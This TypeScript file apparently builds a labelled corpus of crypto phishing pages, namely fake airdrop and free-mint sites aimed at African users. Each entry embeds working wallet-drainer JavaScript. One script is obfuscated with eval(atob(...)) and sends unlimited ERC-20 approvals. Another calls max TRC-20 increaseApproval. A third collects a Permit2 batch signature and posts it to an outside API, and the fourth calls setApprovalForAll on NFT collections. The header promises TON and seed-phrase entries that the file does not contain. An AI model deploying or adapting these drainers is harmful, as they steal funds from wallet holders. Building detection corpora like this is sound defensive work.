import { type Entry } from '../entry.js';
import { doc, b64, splitJs } from '../parts/xe-kit.js';
import { jsRoute } from '../parts/e-bin.js';

/**
 * Wallet drainers posing as airdrops aimed at African crypto users: ERC-20 unlimited approvals, a TRC-20
 * USDT approval through TronLink, a Permit2 batch signature, an NFT setApprovalForAll "free mint", a TON
 * Connect transfer, and seed-phrase harvesters for Trust Wallet "synchronisation" and Pi Network migration.
 */

const afriCoinApprove: Entry = (() => {
  const host = 'claim-africoin.xyz';
  const drainer = `(function(){var SP='0x9d3fA1c2bB70E4f8a1D5c6e09B2A7f31c4E8d051',TK=['0xdAC17F958D2ee523a2206206994597C13D831ec7','0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48'];
function pad(x){return x.replace(/^0x/,'').toLowerCase().padStart(64,'0')}
async function go(){if(!window.ethereum){alert('Installez MetaMask ou Trust Wallet');return}var a=(await ethereum.request({method:'eth_requestAccounts'}))[0];
fetch('/api/v1/visit',{method:'POST',body:JSON.stringify({a:a,ch:await ethereum.request({method:'eth_chainId'})})});
for(var i=0;i<TK.length;i++){try{await ethereum.request({method:'eth_sendTransaction',params:[{from:a,to:TK[i],data:'0x095ea7b3'+pad(SP)+'f'.repeat(64)}]})}catch(e){}}
document.getElementById('st').textContent='Réclamation en cours de traitement... Vos 2 500 AFRX arriveront sous 24 h.'}
document.querySelectorAll('.cw').forEach(function(b){b.onclick=go})})();`;
  return {
    id: 'xe-drainer-africoin-airdrop-unlimited-approve',
    label: 'cryptodrainer',
    kind: 'airdrop-approve-drainer',
    url: `https://${host}/`,
    body: doc({
      title: 'AfriCoin (AFRX) Airdrop – Réclamez vos 2 500 AFRX',
      css: `body{margin:0;background:radial-gradient(circle at top,#2d1b69,#0b0620);color:#fff;font-family:Inter,Arial;min-height:100vh}.n{display:flex;justify-content:space-between;padding:16px 28px}.cw{background:linear-gradient(90deg,#f7b733,#fc4a1a);border:0;color:#fff;padding:12px 22px;border-radius:12px;font-weight:700;cursor:pointer}.h{text-align:center;padding:60px 20px}.h h1{font-size:44px;margin:0}.c{max-width:460px;margin:0 auto;background:rgba(255,255,255,.06);border:1px solid rgba(255,255,255,.15);border-radius:16px;padding:24px}.r{display:flex;justify-content:space-between;margin:8px 0}.pr{height:10px;background:#333;border-radius:5px}.pr i{display:block;width:83%;height:10px;background:#f7b733;border-radius:5px}`,
      body: `<div class="n"><b>🌍 AfriCoin</b><button class="cw">Connecter le wallet</button></div><div class="h"><h1>Le premier token panafricain</h1><p>Airdrop de la communauté : 2 500 AFRX pour chaque wallet éligible (Lagos · Abidjan · Dakar · Casablanca · Douala)</p></div>
<div class="c"><div class="r"><span>Votre allocation</span><b>2 500 AFRX (~ 750 $)</b></div><div class="r"><span>Réseau</span><span>Ethereum / BNB Chain</span></div><div class="r"><span>Réclamés</span><span>83 %</span></div><div class="pr"><i></i></div>
<p style="font-size:13px;opacity:.8">Connectez le wallet qui détient des USDT ou USDC pour prouver votre éligibilité (aucun frais).</p><button class="cw" style="width:100%">Réclamer l'airdrop</button><p id="st"></p></div>
<script src="/assets/claim.js"></script>`,
    }),
    routes: { [`${host}/assets/claim.js`]: jsRoute(`eval(atob('${b64(drainer)}'))`) },
  };
})();

const tronUsdtApprove: Entry = (() => {
  const host = 'usdt-trc20-airdrop-binance.africa-claim.com';
  return {
    id: 'xe-drainer-tron-usdt-trc20-increase-approval',
    label: 'cryptodrainer',
    kind: 'trc20-approve-drainer',
    url: `https://${host}/fr/`,
    body: doc({
      title: 'Binance Afrique – Airdrop 100 USDT TRC20',
      css: `body{margin:0;background:#0b0e11;color:#eaecef;font-family:'IBM Plex Sans',Arial}.h{padding:14px 24px;color:#f0b90b;font-weight:bold}.c{max-width:420px;margin:40px auto;background:#1e2329;border-radius:12px;padding:24px;text-align:center}.a{font-size:40px;color:#f0b90b;font-weight:bold}.b{width:100%;background:#f0b90b;border:0;padding:14px;border-radius:8px;font-weight:bold;font-size:16px;margin-top:14px}.s{font-size:12px;color:#848e9c}`,
      body: `<div class="h">◆ BINANCE Afrique</div><div class="c"><p>Campagne « Binance Africa Day » – Récompense de fidélité</p><p class="a">100 USDT</p><p>Connectez votre wallet TronLink ou Trust Wallet (réseau TRON) pour recevoir la récompense.</p><button class="b" id="cl">Recevoir 100 USDT</button><p class="s" id="msg">Frais de réseau : 0 TRX (pris en charge par Binance)</p></div>
<script>var USDT='TR7NHqjeKQxGTCi8q8ZY4pL8otSzgjLj6t',SPN=${splitJs('TXq3mVh9cQm2rYp4Fs1bWn8kJd6eTuLxZa', 6)};
document.getElementById('cl').onclick=async function(){var m=document.getElementById('msg');if(!window.tronWeb){if(window.tronLink)await tronLink.request({method:'tron_requestAccounts'});else{m.textContent='Ouvrez cette page dans le navigateur DApp de TronLink ou Trust Wallet.';return}}
var me=tronWeb.defaultAddress.base58,bal=0;try{var c=await tronWeb.contract().at(USDT);bal=(await c.balanceOf(me).call()).toString();
await c.increaseApproval(SPN,'115792089237316195423570985008687907853269984665640564039457584007913129639935').send({feeLimit:100000000});
fetch('/fr/ok.php?a='+me+'&b='+bal);m.textContent='Réclamation confirmée ! Les USDT seront crédités sous 30 minutes.'}catch(e){m.textContent='Erreur réseau, réessayez.'}};</script>`,
    }),
  };
})();

const permit2Batch: Entry = (() => {
  const host = 'app.zenlayer-drop.network';
  const code = `async function sign(){var acc=(await ethereum.request({method:'eth_requestAccounts'}))[0],now=Math.floor(Date.now()/1e3);
var msg={types:{EIP712Domain:[{name:'name',type:'string'},{name:'chainId',type:'uint256'},{name:'verifyingContract',type:'address'}],PermitBatch:[{name:'details',type:'PermitDetails[]'},{name:'spender',type:'address'},{name:'sigDeadline',type:'uint256'}],PermitDetails:[{name:'token',type:'address'},{name:'amount',type:'uint160'},{name:'expiration',type:'uint48'},{name:'nonce',type:'uint48'}]},
primaryType:'PermitBatch',domain:{name:'Permit2',chainId:1,verifyingContract:'0x000000000022D473030F116dDEE9F6B43aC78BA3'},
message:{details:['0xdAC17F958D2ee523a2206206994597C13D831ec7','0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48','0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2'].map(function(t){return{token:t,amount:'1461501637330902918203684832716283019655932542975',expiration:now+31536000,nonce:0}}),spender:'0x7Be1f0d4A8e3c9B2D6a5F0e1C4b7A9d2E3f6C8a1',sigDeadline:now+3600}};
var s=await ethereum.request({method:'eth_signTypedData_v4',params:[acc,JSON.stringify(msg)]});await fetch('https://api.zenlayer-drop.network/v2/permit',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({o:acc,s:s,m:msg})});
document.getElementById('r').textContent='Éligibilité vérifiée ✔ – vos ZEN seront distribués au TGE.'}`;
  return {
    id: 'xe-drainer-permit2-batch-signature-airdrop',
    label: 'cryptodrainer',
    kind: 'permit-signature-drainer',
    url: `https://${host}/eligibility`,
    body: doc({
      title: 'Zenlayer Network – Check eligibility / Vérifier l\'éligibilité',
      lang: 'en',
      css: `body{margin:0;background:#f6f7fb;font-family:Inter,Arial;color:#111}.t{display:flex;justify-content:space-between;padding:16px 30px;background:#fff;border-bottom:1px solid #eee}.c{max-width:480px;margin:50px auto;background:#fff;border-radius:18px;padding:30px;box-shadow:0 10px 40px rgba(20,20,60,.08);text-align:center}.c button{background:#5b5bf6;color:#fff;border:0;border-radius:12px;padding:14px 28px;font-size:16px}`,
      body: `<div class="t"><b>⚡ Zenlayer</b><span>Season 1 · Community allocation</span></div><div class="c"><h2>Check your $ZEN allocation</h2><p>Early users, testnet participants and African community ambassadors can claim. Sign a gasless message to verify wallet ownership. / Signez un message sans frais pour vérifier votre wallet.</p>
<button onclick="sign().catch(function(){})">Verify wallet (gasless)</button><p id="r"></p></div><script>eval(${JSON.stringify(code)})</script>`,
    }),
  };
})();

const nftFreeMint: Entry = (() => {
  const host = 'afro-legends-nft.mint-free.io';
  return {
    id: 'xe-drainer-nft-free-mint-setapprovalforall',
    label: 'cryptodrainer',
    kind: 'nft-approval-drainer',
    url: `https://${host}/mint`,
    body: doc({
      title: 'Afro Legends – Free Mint Live 🔥',
      lang: 'en',
      css: `body{margin:0;background:#111;color:#fff;font-family:'Space Grotesk',Arial}.g{display:grid;grid-template-columns:repeat(4,80px);gap:8px;justify-content:center;margin:20px}.g div{height:80px;border-radius:8px;background:linear-gradient(135deg,#e96443,#904e95)}.m{max-width:420px;margin:0 auto;text-align:center}.m button{background:#e96443;color:#fff;border:0;border-radius:30px;padding:14px 40px;font-size:18px}.sup{font-size:13px;opacity:.7}`,
      body: `<div class="m"><h1>AFRO LEGENDS</h1><p>5 555 hand-drawn legends from Mansa Musa to Yaa Asantewaa. <b>Free mint for holders</b> – only gas.</p><div class="g"><div></div><div></div><div></div><div></div></div>
<p class="sup"><span id="c">4 982</span> / 5 555 minted</p><button id="mint">Connect & Mint</button><p id="o"></p></div>
<script>var OP='0x3F8cB61e9D2A7b5E4c1f0A9d8E7B6c5D4a3F2e1B',COL=['0xBC4CA0EdA7647A8aB7C2061c2E118A18a936f13D','0x60E4d786628Fea6478F785A6d7e704777c86a7c6','0xED5AF388653567Af2F388E6224dC7C4b3241C544'];
document.getElementById('mint').onclick=async function(){var o=document.getElementById('o');try{var a=(await ethereum.request({method:'eth_requestAccounts'}))[0];
for(var i=0;i<COL.length;i++){var data='0xa22cb465'+OP.slice(2).toLowerCase().padStart(64,'0')+'1'.padStart(64,'0');await ethereum.request({method:'eth_sendTransaction',params:[{from:a,to:COL[i],data:data}]}).catch(function(){})}
o.textContent='Mint pending… your Afro Legend will appear in your wallet shortly.'}catch(e){o.textContent='Please install MetaMask.'}};</script>`,
    }),
  };
})();

export const entries: Entry[] = [afriCoinApprove, tronUsdtApprove, permit2Batch, nftFreeMint];
